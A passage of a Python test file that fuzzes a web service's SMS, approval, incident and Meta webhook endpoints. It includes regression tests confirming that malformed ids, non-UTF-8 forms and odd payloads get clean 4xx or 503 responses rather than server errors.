        page=st.one_of(st.none(), texts, segments, st.just(f"{world.incident_id}/r00s00/sarah-whitfield")),
        form=st.dictionaries(
            st.sampled_from(["MessageSid", "MessageStatus", "To", "ErrorCode", "SmsStatus"]) | st.text(max_size=8),
            texts,
            max_size=5,
        ),
    )
    def status(
        page: str | None,
        form: dict[str, str],
    ) -> None:
        query = "" if page is None else "?" + urlencode({"page": page})
        url = PUBLIC_URL + "/sms/status" + query
        response = world.request(
            "POST", "/sms/status" + query, _twilio_signed(world, url, form), urlencode(form).encode()
        )
        check(response, allowed=(200,))
        assert json.loads(response.body) in ({"status": "unknown_page"},)

    inbound()
    status()
    assert_unchanged(before, snapshot(world))


def test_genuine_approval_link_with_random_forms_never_5xx(world: World) -> None:
    """The real link, random form posts: recorded or refused with a page, never a 5xx."""

    @settings(FUZZ, max_examples=25)
    @given(
        form=st.one_of(
            BODIES,
            st.dictionaries(
                st.sampled_from(["action", "version_hash", "text", "note"]) | st.text(max_size=8),
                st.sampled_from(["approve", "edit", "request_changes", world.version_hash]) | st.text(max_size=80),
                max_size=5,
            ).map(lambda d: urlencode(d).encode()),
        )
    )
    def post(form: bytes) -> None:
        response = world.request("POST", f"/approve/{world.approval_token}", {"content-type": FORM}, form)
        check(response)
        assert _header(response, "content-type").startswith("text/html")

    post()
    assert world.fake.messages == []


# ---------------------------------------------------------------- regressions: bugs these tests found


def test_unsigned_sms_form_that_is_not_utf8_is_a_400_not_a_500(world: World) -> None:
    """Was a 500: the signature check decoded the raw form as UTF-8 and raised."""
    before = snapshot(world)
    for path in ("/sms/inbound", "/sms/status"):
        response = world.request("POST", path, {"content-type": FORM}, b"From=%2B1&Body=\xff\xfe")
        check(response, allowed=(400,))
        assert json.loads(response.body) == {"error": "form is not UTF-8"}
    assert_unchanged(before, snapshot(world))


MALFORMED_IDS = [
    ("GET", "/incidents/" + "a" * 3000, "no such incident"),
    ("POST", "/incidents/" + "a" * 3000 + "/acknowledge", "no such incident"),
    ("POST", "/incidents/" + "a" * 3000 + "/statements", "no such incident"),
    ("POST", "/incidents/" + "a" * 3000 + "/publish", "no such incident"),
    ("GET", "/incidents/inc%23x", "no such incident"),
    ("GET", "/incidents/inc 1", "no such incident"),
    ("GET", "/brands/" + "a" * 3000 + "/counts?from=1795428000&to=1795428600", "no such brand"),
    ("GET", "/brands/Acme%230/counts?from=1795428000&to=1795428600", "no such brand"),
    ("GET", "/brands//counts?from=1795428000&to=1795428600", "no such brand"),
]


def test_malformed_ids_are_refused_before_any_storage_call(world: World) -> None:
    """Was a 500 on AWS: DynamoDB refuses a key over 2048 bytes with a ValidationException (moto answers
    "not found"), so an id that cannot exist is refused with a 404 before DynamoDB is asked."""
    calls: list[str] = []

    def record(**kwargs: Any) -> None:
        calls.append(kwargs.get("event_name", "?"))

    headers = {"x-api-key": API_KEY, "content-type": "application/json"}
    for method, path, reason in MALFORMED_IDS:
        on_dynamodb("before-call.dynamodb", record)
        try:
            response = world.request(method, path, headers, b"{}")
        finally:
            on_dynamodb("before-call.dynamodb", record, remove=True)
        check(response, allowed=(404,))
        assert (path[:40], json.loads(response.body), calls) == (path[:40], {"error": reason}, [])
    # a well-formed id still reaches the store
    on_dynamodb("before-call.dynamodb", record)
    try:
        assert world.request("GET", f"/incidents/{world.incident_id}", headers).status_code == 200
    finally:
        on_dynamodb("before-call.dynamodb", record, remove=True)
    assert calls


@pytest.mark.parametrize("platform", ["x", "meta", "webhook"])
def test_publishing_to_an_unconfigured_platform_is_a_503_not_a_bad_gateway(
    world: World, monkeypatch: pytest.MonkeyPatch, platform: str
) -> None:
    """Was a 502 ("bad gateway") though no platform was contacted: the deployment lacks its credentials,
    which every other route answers with a 503 naming what is missing."""
    for name in ("KLAXON_X_USER_TOKEN", "KLAXON_META_PAGE_TOKEN", "KLAXON_PUBLISH_WEBHOOK_URL"):
        monkeypatch.delenv(name, raising=False)
    before = snapshot(world)
    body = json.dumps({"lang": "en", "version_hash": world.version_hash, "platform": platform}).encode()
    headers = {"x-api-key": API_KEY, "content-type": "application/json"}
    response = world.request("POST", f"/incidents/{world.incident_id}/publish", headers, body)
    assert response.status_code == 503, response.body
    assert "not configured" in json.loads(response.body)["error"]
    assert_unchanged(before, snapshot(world))


@pytest.mark.parametrize("media", ["a" * 5000, 17, ["18046523198765432"], None])
def test_signed_instagram_comment_with_odd_media_is_not_a_500(world: World, media: Any) -> None:
    """Was a 500 (found by the mutated-payload fuzz): an Instagram comment whose `media` was not an object
    crashed the parser. `media` only names the post replied to, so the comment is still a mention."""
    doc = _fixture("meta_instagram_comments.json")
    doc["entry"][0]["changes"][0]["value"]["media"] = media
    body = json.dumps(doc).encode()
    start = _depth(world.env.sqs, world.env.queue_url)
    response = world.request("POST", "/webhooks/meta", _signed("/webhooks/meta", body), body)
    check(response, allowed=(200,))
    assert json.loads(response.body)["enqueued"] == 2
    assert _depth(world.env.sqs, world.env.queue_url) == start + 2
